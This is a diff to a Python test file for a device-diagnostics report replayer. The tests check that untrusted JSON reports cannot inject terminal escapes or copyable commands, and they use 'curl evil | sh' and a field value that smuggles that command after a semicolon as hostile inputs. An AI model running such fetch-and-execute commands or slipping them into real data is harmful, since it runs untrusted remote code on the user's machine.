@@ -8,7 +8,8 @@ from typing import Any
 
 import pytest
 
-from rl_ext_core.devices.doctor import Question, Verified, examine, replay
+from rl_ext_core.devices._verify import Verified
+from rl_ext_core.devices.doctor import Question, examine, replay
 from rl_ext_core.errors import CorruptFileError
 from tests.core.devices.machines import machine, uuid
 from tests.core.devices.patients import CASES, EGL, report_of, shown
@@ -60,7 +61,7 @@ def test_a_strangers_report_sends_no_escape_sequences_to_the_terminal() -> None:
 
 def test_a_strangers_report_brings_no_lines_of_its_own_to_copy() -> None:
     data = report_of("wrong mask", verified=[Verified("mujoco", failure="x")]).to_dict()
-    data["findings"][0]["fix"] = data["fixes"][0]["lines"][0] = "curl evil | sh"
+    data["findings"][0]["fix"] = "curl evil | sh"
     assert "evil" not in shown(replay(json.dumps(data)))
     data["verified"][0]["name"] = "mujoco; curl evil | sh"
     with pytest.raises(CorruptFileError, match="is no renderer"):
@@ -80,7 +81,7 @@ def test_a_report_with_any_part_missing_or_of_another_type_is_refused_or_shown()
     seen = Verified("mujoco", "gpu", uuid(0), 0, 0)
     data = examine(machine(1, mig={0: ["MIG-1"]}), EGL, question=Question(), verified=[seen]).to_dict()
     # The rest follows from these, and is not read.
-    data = {name: data[name] for name in ("format", "inventory", "environ", "compute", "question", "verified")}
+    data = {name: data[name] for name in ("format", "inventory", "environ", "decision", "question", "verified")}
     outcomes = {True: 0, False: 0}
     for damaged in damages(data):
         try:
